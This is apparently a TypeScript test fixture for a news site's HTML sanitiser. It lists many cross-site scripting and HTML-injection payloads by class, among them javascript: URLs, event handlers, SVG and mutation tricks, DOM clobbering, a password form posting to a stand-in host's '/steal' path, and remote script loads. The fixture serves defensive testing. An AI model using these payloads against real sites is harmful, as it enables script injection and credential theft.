/*
 * What a hostile backend may send as an article, by class: written for this site after the published lists of attack
 * vectors. `RUN` marks the code that must never run; foreign.example is the host that must never be asked.
 */

const RUN = 'window.attacked=1'
const FOREIGN = 'https://foreign.example'
const ENTITIES = 'javascript:window.attacked=1'.replace(/./g, (letter) => `&#${letter.charCodeAt(0)};`)
const HEX = 'javascript:window.attacked=1'.replace(/./g, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`)

/** Addresses that run code, or are none: as links of articles, and as links of news items. */
export const ADDRESSES: string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `javascript\t:${RUN}`,
  `javascript://foreign.example/%0a${RUN}`,
  `javascript:/*https://news.example.org/*/${RUN}`,
  `javascript:"https://news.example.org/";${RUN}`,
  `javascript&colon;${RUN}`,
  `\u00a0javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `jar:javascript:${RUN}!/`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==`,
  `DATA:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  'blob:https://foreign.example/1',
  'filesystem:https://foreign.example/temporary/x.html',
  'file:///etc/passwd',
  'about:blank',
  'chrome://settings',
  'intent://foreign.example#Intent;scheme=http;end',
  'ws://foreign.example/',
  'ftp://foreign.example/x'
]

const inAttribute = (value: string) => value.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

/** By class, as the HTML of an article. */
export const ATTACKS: Record<string, string[]> = {
  scripts: [
    `<script>${RUN}</script>`,
    `<SCRIPT SRC=${FOREIGN}/x.js></SCRIPT>`,
    `<script src="data:text/javascript,${RUN}"></script>`,
    `<script type="module">${RUN}</script>`,
    `<script type="importmap">{"imports":{"react":"${FOREIGN}/react.js"}}</script>`,
    `<script type="speculationrules">{"prerender":[{"urls":["${FOREIGN}/"]}]}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script/x>${RUN}</script>`,
    `<script\n>${RUN}</script\n>`,
    `<<script>${RUN};//<</script>`,
    `</title><script>${RUN}</script>`,
    `--><script>${RUN}</script><!--`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`
  ],
  handlers: [
    `<img src=x onerror=${RUN}>`,
    `<img src=x onerror="${RUN}" onload="${RUN}">`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src="x\`\`onerror=${RUN}\`">`,
    `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
    `<p onclick=${RUN} onmouseover=${RUN} onpointerenter=${RUN} onfocus=${RUN} tabindex=1 autofocus>p</p>`,
    `<details open ontoggle=${RUN}><summary>x</summary></details>`,
    `<body onload=${RUN} onhashchange=${RUN} onpageshow=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<video src=x onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}></audio>`,
    `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}></select>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<div style="animation: lift 1ms" onanimationend=${RUN}>x</div>`,
    `<div style="transition: all 1ms" ontransitionend=${RUN}>x</div>`,
    `<div contenteditable onbeforeinput=${RUN} onpaste=${RUN}>x</div>`,
    `<div popover id=x onbeforetoggle=${RUN}>x</div><button popovertarget=x>b</button>`,
    `<div oncontentvisibilityautostatechange=${RUN} style="content-visibility:auto">x</div>`,
    `<xss onscrollsnapchange=${RUN} onscroll=${RUN} style="overflow:auto">x</xss>`,
    `<custom-element onfocusin=${RUN} tabindex=1 autofocus>x</custom-element>`,
    `<a href="#" oncontextmenu="${RUN}" onauxclick="${RUN}" ONCLICK="${RUN}">x</a>`,
    `<img src=x one&#114;ror=${RUN}><img src=x &#111;nerror=${RUN}>`,
    `<img src=x ${'a'.repeat(5_000)}=1 onerror=${RUN}>`
  ],
  addresses: [
    ...ADDRESSES.map((address) => `<a href="${inAttribute(address)}">link</a>`),
    `<a href=${ENTITIES}>link</a>`,
    `<a href="${HEX}">link</a>`,
    `<a href="java&Tab;script:${RUN}">link</a><a href="java&NewLine;script&colon;${RUN}">link</a>`,
    `<a xlink:href="javascript:${RUN}" href="#x">link</a>`,
    `<a href="https://news.example.org" ping="${FOREIGN}/ping" download target=_self rel=opener>link</a>`,
    `<area shape=rect coords="0,0,999,999" href="javascript:${RUN}"><map name=m><area href="javascript:${RUN}"></map>`,
    `<img src="javascript:${RUN}"><img src="data:text/html,<script>${RUN}</script>">`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
    `<img srcset="javascript:${RUN} 1x" lowsrc="javascript:${RUN}" dynsrc="javascript:${RUN}">`,
    `<img src="data:image/png;base64,iVBORw0KGgo=" usemap=#m><blockquote cite="javascript:${RUN}">q</blockquote>`
  ],
  'SVG and MathML': [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
    `<svg><image href="${FOREIGN}/x.svg"/><feImage href="${FOREIGN}/y.svg"/></svg>`,
    `<svg><style>@import '${FOREIGN}/x.css';</style></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
    `<math href="javascript:${RUN}">x</math>`,
    `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${RUN}">x</maction></math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
    `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`
  ],
  mutation: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
    `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
    `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
    `<iframe><img title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
    `<noframes><p title="</noframes><svg onload=${RUN}>"></noframes>`,
    `<select><iframe></select><img src=x onerror=${RUN}>`,
    `<table><td><a><table><td><img src=x onerror=${RUN}></table></a>`,
    `<p><svg><title><p title="</title></svg><img src=x onerror=${RUN}>">`,
    `<listing>&lt;img onerror="${RUN}" src=x&gt;</listing>`,
    `<a><svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=${RUN}></noscript></desc></svg></a>`,
    `${'<div>'.repeat(600)}<svg><style><img src=x onerror=${RUN}></style></svg>`,
    `<style><style/><img src=x onerror=${RUN}>`,
    `&lt;img src=x onerror=${RUN}&gt;`,
    `<plaintext><img src=x onerror=${RUN}>`,
    `<!--><img src=x onerror=${RUN}>--><!--!><img src=x onerror=${RUN}>--!>`,
    `<?xml-stylesheet href="javascript:${RUN}"?><img src=x onerror=${RUN}//`,
    `<![CDATA[<img src=x onerror=${RUN}>]]>`
  ],
  'DOM clobbering': [
    `<form id=test><input name=attributes><input name=childNodes></form>`,
    `<img name=getElementById><img name=querySelector><img name=body><img name=forms>`,
    `<a id=earlyCalls></a><a id=earlyCalls name=x href="${FOREIGN}">x</a>`,
    `<form name=body><input name=parentNode></form>`,
    `<div id=contact-name>x</div><div id=content>x</div><div id=menu popover>x</div><div id=sent>x</div>`,
    `<img id=Astro><img id=customElements name=customElements>`,
    `<astro-island uid=x component-url="${FOREIGN}/x.js" component-export=default renderer-url="${FOREIGN}/y.js" client=load ssr></astro-island>`,
    `<object id=trustedTypes></object><embed name=location>`
  ],
  'styles and layout': [
    `<style>body{display:none!important}</style>`,
    `<style>@import url(${FOREIGN}/x.css);</style>`,
    `<link rel=stylesheet href="${FOREIGN}/x.css">`,
    `<div style="position:fixed;inset:0;z-index:2147483647;background:red">cover</div>`,
    `<div style="background:url(${FOREIGN}/x.gif)">x</div>`,
    `<div style="width:9999px;margin-left:-5000px;position:absolute;top:0">x</div>`,
    `<a style="position:fixed;inset:0" href="https://news.example.org">cover</a>`,
    `<div class="splash skip button visually-hidden">x</div>`,
    `<img src="${FOREIGN}/wide.png" width=99999 height=99999>`,
    `<table width=99999><tr><td width=99999 height=99999 colspan=1000>${'wide'.repeat(500)}</td></tr></table>`,
    `<pre>${'x'.repeat(4_000)}</pre><p>${'y'.repeat(4_000)}</p>`,
    `<hr width=99999 size=99999><col width=99999><td nowrap background="${FOREIGN}/x.gif">x</td>`,
    `<font size=7 color=red>x</font><center>x</center><blink>x</blink><p align=right bgcolor=red>x</p>`,
    `<dialog open style="position:fixed">x</dialog><div popover=manual>x</div>`,
    `<p dir=rtl>\u202eevil\u202c \u2066x</p><p>Z\u0300${'\u0301'.repeat(400)}</p>`,
    `<p hidden>x</p><p inert>x</p><div slot=x part=y is=z>x</div>`,
    `<p role=alert aria-live=assertive aria-label=y tabindex=1 accesskey=s>x</p>`
  ],
  forms: [
    `<form action="${FOREIGN}/steal"><input name=password type=password><button>Log in</button></form>`,
    `<form action="javascript:${RUN}"><input type=submit></form>`,
    `<button formaction="javascript:${RUN}">x</button>`,
    `<input type=image src="${FOREIGN}/x.png" formaction="${FOREIGN}/steal">`,
    `<form id=f action="${FOREIGN}"></form><button form=f>x</button>`,
    `<isindex action="javascript:${RUN}" type=submit>`,
    `<button commandfor=menu command=toggle-popover>x</button><button popovertarget=menu>x</button>`,
    `<label for=menu>x</label><fieldset><legend>x</legend><output>y</output></fieldset><datalist><option>x</datalist>`,
    `<textarea name=x>typed</textarea><select><option>x</select><keygen>`
  ],
  frames: [
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe src="${FOREIGN}"></iframe><frameset><frame src="${FOREIGN}"></frameset>`,
    `<object data="javascript:${RUN}"></object><object data="${FOREIGN}/x.swf"><param name=src value=x></object>`,
    `<embed src="${FOREIGN}/x.swf"><applet code=x></applet>`,
    `<portal src="${FOREIGN}"></portal><fencedframe></fencedframe>`,
    `<object type="text/html" data="data:text/html,<script>parent.${RUN}</script>"></object>`
  ],
  'meta, base and links': [
    `<meta http-equiv=refresh content="0;url=${FOREIGN}/">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    `<meta http-equiv=content-security-policy content="script-src 'unsafe-inline'">`,
    `<meta http-equiv=set-cookie content="stolen=1"><meta name=referrer content=unsafe-url>`,
    `<base href="${FOREIGN}/"><a href="relative">relative</a>`,
    `<base target=_self href="javascript:/a/-${RUN}//">`,
    `<link rel=prefetch href="${FOREIGN}/p"><link rel=preload as=script href="${FOREIGN}/q.js"><link rel=dns-prefetch href="${FOREIGN}">`,
    `<link rel=modulepreload href="${FOREIGN}/m.js"><link rel=manifest href="${FOREIGN}/m.json"><link rel=icon href="${FOREIGN}/i.png">`,
    `<html manifest="${FOREIGN}/x.appcache" onclick=${RUN}><head profile=x><title>changed</title></head></html>`
  ],
  media: [
    `<video src="${FOREIGN}/v.mp4" poster="${FOREIGN}/p.png" autoplay></video>`,
    `<audio src="${FOREIGN}/a.mp3" autoplay controls></audio>`,
    `<picture><source srcset="${FOREIGN}/s.png"><img src="x"></picture><track src="${FOREIGN}/t.vtt">`,
    `<img src="https://news.example.org/a.png" srcset="${FOREIGN}/b.png 2x" crossorigin=use-credentials referrerpolicy=unsafe-url loading=eager>`
  ],
  templates: [
    `<template><img src=x onerror=${RUN}></template>`,
    `<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><img src=x onerror=${RUN}></template></div>`,
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
    `<div v-html="'${RUN}'" ng-app x-data x-init="${RUN}" data-bind="x">x</div>`,
    `<slot name=x onslotchange=${RUN}></slot><div is="x-y" data-astro-cid-x data-save-data data-held>x</div>`
  ]
}

/** Titles are text wherever they stand. */
export const TITLES: string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><svg onload=${RUN}>`,
  `' onmouseover='${RUN}`,
  `</h2></li></ul><div style="position:fixed;inset:0">cover</div>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `javascript:${RUN}`,
  '{{7*7}}',
  '\u202eright to left\u202c',
  `${'wide'.repeat(2_000)}`,
  `Z${'\u0301'.repeat(500)}`,
  '__proto__'
]
